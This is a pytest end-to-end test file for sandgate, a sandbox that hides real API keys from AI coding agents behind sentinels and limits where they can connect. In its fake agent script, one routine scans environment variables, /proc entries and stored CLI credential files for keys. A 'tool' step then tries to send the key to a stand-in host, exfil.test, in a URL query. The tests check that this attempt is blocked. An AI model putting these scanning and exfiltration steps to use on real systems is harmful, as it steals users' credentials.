"""Issue 26 item 9, end to end: the recipes of docs/agents.md, each against fake API upstreams.

The world's fake DNS answers the real API names (api.anthropic.com, api.openai.com) with fake
upstreams on TEST-NET-2 inside the world, certified by the world's CA (the daemon trusts it
through --upstream-ca); nothing leaves the world's namespace. The fakes log every header they
receive: "the API got the real key" and "the denied host saw nothing" are their own evidence.

(a) A whole agent inside: `sandgate run --allow anthropic -- AGENT` (and openai). A fake agent
(sgagent.py, standing in for the CLI) calls the API with the key its environment holds, scans
every environment and command line it can read for the real key, and starts a tool (a
subprocess) that calls the API too and tries to send the key to a host no list allows.

(b) sandgate as the agent's shell: the agent outside, `sandgate-shell` as its shell, the two ways
agents hand it a command (Aider: `$SHELL -c CMD`; Claude Code: `$CLAUDE_CODE_SHELL_PREFIX 'CMD'`).
"""

from __future__ import annotations

import json
import os
import secrets
import shlex
import shutil
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from netguard.audit import read_records

from ..support import httpsfake
from ..support.httpsfake import Fake, Result, header
from ..support.rootless import UnprivilegedUser
from ..support.runner import VIEW, Sandgate, env
from ..support.world import World, new_world

ANTHROPIC_IP, OPENAI_IP, EXFIL_IP = "198.51.100.101", "198.51.100.102", "198.51.100.103"
#: Marks the real keys; the scans inside look for it, spelled in two halves there (so the scanner's
#: own source and command line never carry it).
MARK = "q9agentreal"
REAL = {
    "anthropic": f"sk-ant-{MARK}-{secrets.token_hex(16)}",
    "openai": f"sk-proj-{MARK}-{secrets.token_hex(16)}",
}
VARIABLE = {"anthropic": "ANTHROPIC_API_KEY", "openai": "OPENAI_API_KEY"}
SENTINEL_PREFIX = {"anthropic": "sk-ant-sandgate-sentinel-", "openai": "sk-proj-sandgate-sentinel-"}
API_HOST = {"anthropic": "api.anthropic.com", "openai": "api.openai.com"}
STORED = {"anthropic": ".claude/.credentials.json", "openai": ".codex/auth.json"}  # under the home

#: The fake agent (and, as `tool`, what it starts): it uses its key as the real CLI would.
AGENT_PY = r"""
import json, os, subprocess, sys, urllib.error, urllib.request

MARK = "q9agent" + "real"
APIS = {
    "anthropic": ("ANTHROPIC_API_KEY", "https://api.anthropic.com/v1/messages",
                  lambda k: {"x-api-key": k, "anthropic-version": "2023-06-01"}),
    "openai": ("OPENAI_API_KEY", "https://api.openai.com/v1/responses", lambda k: {"Authorization": "Bearer " + k}),
}

def emit(name, **kw):
    print(json.dumps({"name": name, **kw}), flush=True)

def post(name, url, headers):
    req = urllib.request.Request(url, data=b'{"model": "m"}', method="POST",
                                 headers={**headers, "content-type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=15) as r:
            emit(name, status=r.status, body=r.read().decode())
    except urllib.error.HTTPError as e:
        emit(name, status=e.code, body=e.read().decode()[:300])
    except Exception as e:
        emit(name, status=0, body="", error=f"{type(e).__name__}: {e}")

STORED = {"anthropic": "~/.claude/.credentials.json", "openai": "~/.codex/auth.json"}  # the CLIs' own logins

def scan(provider):
    found = [k for k, v in os.environ.items() if MARK in v]
    try:
        with open(os.path.expanduser(STORED[provider]), "rb") as f:
            if MARK.encode() in f.read():
                found.append(STORED[provider])
    except OSError:
        pass
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    data = f.read()
            except OSError:
                continue
            if MARK.encode() in data:
                found.append(f"/proc/{pid}/{what}")
    return found

def main(role, provider):
    var, url, headers = APIS[provider]
    key = os.environ.get(var, "")
    emit(f"{role}.key", status=0, body=key)
    post(f"{role}.api", url, headers(key))
    emit(f"{role}.scan", status=0, body=json.dumps(scan(provider)))
    if role == "agent":  # the agent starts a tool, as a CLI runs a command it was asked to
        subprocess.run([sys.executable, os.path.abspath(__file__), "tool", provider], check=False)
    else:  # the tool tries to send the key somewhere no list allows
        post("tool.exfil", "https://exfil.test/collect?k=" + key, {})

main(sys.argv[1], sys.argv[2])
"""

#: Outer fake agents for recipe (b): each hands a command to its shell the way the real CLI does.
OUTER_PY = r"""
import os, shlex, subprocess, sys

mode, cmd = sys.argv[1], sys.argv[2]
if mode == "aider":  # aider/run_cmd.py: Popen(command, shell=True, executable=$SHELL) runs `$SHELL -c CMD`
    rc = subprocess.run(cmd, shell=True, executable=os.environ["SHELL"]).returncode
else:  # Claude Code: its shell runs `PREFIX 'CMD'` (the command, quoted, as the prefix's $1)
    rc = subprocess.run(os.environ["CLAUDE_CODE_SHELL_PREFIX"] + " " + shlex.quote(cmd), shell=True,
                        executable="/bin/bash").returncode
sys.exit(rc)
"""


@dataclass
class Lab:
    world: World
    base: Path
    ws: Path
    home: Path
    wrapper: Path
    fakes: dict[str, Fake]

    def marks(self) -> dict[str, int]:
        return {k: f.mark() for k, f in self.fakes.items()}

    def since(self, marks: dict[str, int], name: str) -> list[httpsfake.Seen]:
        return self.fakes[name].since(marks[name])

    def audit_path(self) -> Path:
        return self.base / f"audit-{time.monotonic_ns()}.jsonl"

    def agent_env(self, provider: str, **extra: str) -> dict[str, str]:
        """The caller's environment: the real key, as a user exports it before starting the agent."""
        return {**env(), "HOME": str(self.home), VARIABLE[provider]: REAL[provider], **extra}


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    if os.geteuid() != 0:
        pytest.fail("e2e tests need root (they build network namespaces)", pytrace=False)
    base = Path(tempfile.mkdtemp(prefix="sandgate-agents-", dir="/var/tmp"))  # the sandbox's /tmp is its own
    try:
        with new_world() as w:
            ws, home, bindir = base / "ws", base / "home", base / "bin"
            for d in (ws, home, bindir):
                d.mkdir()
            (ws / "sgagent.py").write_text(AGENT_PY)
            # A user who also logged in on the host: the CLIs' stored logins hold a real key.
            for provider, stored in STORED.items():
                (home / stored).parent.mkdir(parents=True)
                (home / stored).write_text(json.dumps({"key": REAL[provider]}))
            (base / "outer.py").write_text(OUTER_PY)
            # What `pip install` makes of pyproject's `sandgate-shell` console script.
            wrapper = bindir / "sandgate-shell"
            wrapper.write_text(
                f"#!{sys.executable}\nimport sys\nfrom launcher.agentshell import main\nsys.exit(main())\n"
            )
            wrapper.chmod(0o755)
            fakes = {
                "anthropic": httpsfake.start(w, "api.anthropic.com", ANTHROPIC_IP),
                "openai": httpsfake.start(w, "api.openai.com", OPENAI_IP),
                "exfil": httpsfake.start(w, "exfil.test", EXFIL_IP),
            }
            yield Lab(w, base, ws, home, wrapper, fakes)
    finally:
        from fsguard import homeoverlay

        homeoverlay.forget_under(os.getuid(), str(base))
        shutil.rmtree(base, ignore_errors=True)


def probe_results(stdout: str) -> dict[str, Result]:
    return httpsfake.results(stdout)


def records(audit: Path) -> list[Any]:
    return list(read_records(audit))


def carried(seen: list[httpsfake.Seen], value: str) -> list[httpsfake.Seen]:
    return [s for s in seen if value in json.dumps([s["target"], s["headers"]])]


def check_api_got_the_real_key(lab: Lab, marks: dict[str, int], provider: str, calls: int, sentinel: str) -> None:
    """The fake API saw exactly `calls` requests, each with the real key in the provider's header."""
    seen = lab.since(marks, provider)
    assert len(seen) == calls, seen
    name, value = (
        ("x-api-key", REAL[provider]) if provider == "anthropic" else ("authorization", f"Bearer {REAL[provider]}")
    )
    for s in seen:
        assert header(s, name) == [value], s["headers"]
        # The list's own header, and only it, carries the key (the broker also swaps a sentinel it
        # finds elsewhere, so a wrong header name in the list would show here as a second one).
        assert {k.lower() for k, v in s["headers"] if REAL[provider] in v} == {name}, s["headers"]
        assert s["sni"] == API_HOST[provider]
    assert not carried(seen, sentinel), "the sentinel reached the API: the broker did not swap it"


def check_tool_was_confined(lab: Lab, marks: dict[str, int], res: dict[str, Result], audit: Path) -> None:
    """The tool's attempt at a host no list allows failed at sandgate, and the host saw nothing."""
    assert res["tool.exfil"]["status"] == 0 and "403" in res["tool.exfil"]["error"], res["tool.exfil"]
    assert lab.since(marks, "exfil") == [], "the denied host was reached"
    denied = [r for r in records(audit) if r["event"] == "decision" and r.get("host") == "exfil.test"]
    assert denied and all(r["action"] == "deny" for r in denied), denied


# ---- (a) the whole agent inside, its key brokered -----------------------------------------------


@pytest.mark.parametrize("provider", ["anthropic", "openai"])
def test_a_whole_agent_inside_sees_a_sentinel_and_the_api_gets_the_real_key(lab: Lab, provider: str) -> None:
    """docs/agents.md: `ANTHROPIC_API_KEY=... sandgate run --allow anthropic -- claude` (openai: codex)."""
    marks, audit = lab.marks(), lab.audit_path()
    sg = Sandgate(lab.world, audit=audit, quiet=True, cwd=lab.ws, timeout=90)
    r = sg.run(
        "--allow",
        provider,
        "--upstream-ca",
        str(lab.world.ca_pem),
        cmd=[sys.executable, "sgagent.py", "agent", provider],
        env=lab.agent_env(provider),
    )
    assert r.returncode == 0, r.stdout + r.stderr
    assert MARK not in r.stdout + r.stderr
    res = probe_results(r.stdout)
    sentinel = res["agent.key"]["body"]
    # The agent and the tool it started hold the same sentinel, never the key.
    assert sentinel.startswith(SENTINEL_PREFIX[provider]) and res["tool.key"]["body"] == sentinel, res
    for role in ("agent", "tool"):
        assert res[f"{role}.api"]["status"] == 200, res[f"{role}.api"]
        assert res[f"{role}.api"]["body"].startswith(f"hello from {API_HOST[provider]} POST"), res[f"{role}.api"]
        assert json.loads(res[f"{role}.scan"]["body"]) == [], f"{role} could read the real key"
    check_api_got_the_real_key(lab, marks, provider, 2, sentinel)
    check_tool_was_confined(lab, marks, res, audit)
    assert REAL[provider] not in audit.read_text(encoding="utf-8")


# ---- (b) sandgate as the agent's shell -----------------------------------------------------------


@pytest.mark.parametrize("mode", ["aider", "claude"])
def test_commands_an_agent_gives_sandgate_shell_run_inside_sandgate(lab: Lab, mode: str) -> None:
    """docs/agents.md: `SHELL=sandgate-shell aider` and `CLAUDE_CODE_SHELL_PREFIX=sandgate-shell claude`,
    with SANDGATE_SHELL_OPTS="--allow anthropic": the agent outside holds the key; its commands
    inside get a sentinel, reach the API through the broker and nothing else."""
    marks, audit = lab.marks(), lab.audit_path()
    opts = [*VIEW, "-q", "--allow", "anthropic", "--upstream-ca", str(lab.world.ca_pem), "--audit-log", str(audit)]
    shell_var = "SHELL" if mode == "aider" else "CLAUDE_CODE_SHELL_PREFIX"
    environ = lab.agent_env("anthropic", **{shell_var: str(lab.wrapper), "SANDGATE_SHELL_OPTS": shlex.join(opts)})
    # A shell command line (quoting, $0, &&): the wrapper hands it to a shell inside, unchanged.
    cmd = f"echo \"inner shell: $0, 'two words'\" && {shlex.quote(sys.executable)} sgagent.py tool anthropic"
    r = lab.world.run([sys.executable, str(lab.base / "outer.py"), mode, cmd], cwd=lab.ws, env=environ, timeout=90)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "inner shell: /bin/bash, 'two words'" in r.stdout, r.stdout
    res = probe_results(r.stdout)
    sentinel = res["tool.key"]["body"]
    assert sentinel.startswith(SENTINEL_PREFIX["anthropic"]), "the command saw the agent's real key"
    assert res["tool.api"]["status"] == 200, res["tool.api"]
    assert json.loads(res["tool.scan"]["body"]) == [], "the command could read the real key"
    check_api_got_the_real_key(lab, marks, "anthropic", 1, sentinel)
    check_tool_was_confined(lab, marks, res, audit)
    # The command's connections are sandgate's decisions: the run that made them logged them.
    allowed = [x for x in records(audit) if x["event"] == "request" and x["host"] == "api.anthropic.com"]
    assert len(allowed) == 1, records(audit)


def test_sandgate_shell_refuses_a_broken_option_list_in_one_line(lab: Lab) -> None:
    environ = {**env(), "HOME": str(lab.home), "SANDGATE_SHELL_OPTS": "--allow 'pypi"}
    r = lab.world.run([str(lab.wrapper), "-c", "true"], cwd=lab.ws, env=environ, timeout=30)
    assert r.returncode == 125, r.stdout + r.stderr
    assert r.stderr.startswith("sandgate: error: $SANDGATE_SHELL_OPTS is not a valid option list"), r.stderr
    assert len(r.stderr.strip().splitlines()) == 1 and "Traceback" not in r.stderr


def test_rootless_a_whole_agent_inside_sees_a_sentinel(lab: Lab, unprivileged: UnprivilegedUser) -> None:
    """Recipe (a) as an ordinary user (no sudo), the way most people run an agent."""
    lab.world.tmp.chmod(0o755)  # the user reads the world's CA (--upstream-ca) here
    lab.world.ca_pem.chmod(0o644)
    work, home = unprivileged.home / "work", unprivileged.home
    work.mkdir(exist_ok=True)
    (work / "sgagent.py").write_text(AGENT_PY)
    (home / STORED["anthropic"]).parent.mkdir(parents=True, exist_ok=True)
    (home / STORED["anthropic"]).write_text(json.dumps({"key": REAL["anthropic"]}))
    for p in (work, work / "sgagent.py", home / ".claude", home / STORED["anthropic"]):
        os.chown(p, unprivileged.uid, unprivileged.gid)
    marks, audit = lab.marks(), work / "audit.jsonl"
    sg = Sandgate(unprivileged.runner(lab.world), audit=audit, quiet=True, cwd=work, timeout=90)
    r = sg.run(
        "--allow",
        "anthropic",
        "--upstream-ca",
        str(lab.world.ca_pem),
        cmd=[sys.executable, "sgagent.py", "agent", "anthropic"],
        env={**env(), "HOME": str(home), "ANTHROPIC_API_KEY": REAL["anthropic"]},
    )
    assert r.returncode == 0, r.stdout + r.stderr
    res = probe_results(r.stdout)
    sentinel = res["agent.key"]["body"]
    assert sentinel.startswith(SENTINEL_PREFIX["anthropic"]) and res["tool.key"]["body"] == sentinel, res
    for role in ("agent", "tool"):
        assert res[f"{role}.api"]["status"] == 200, res[f"{role}.api"]
        assert json.loads(res[f"{role}.scan"]["body"]) == [], f"{role} could read the real key"
    check_api_got_the_real_key(lab, marks, "anthropic", 2, sentinel)
    check_tool_was_confined(lab, marks, res, audit)
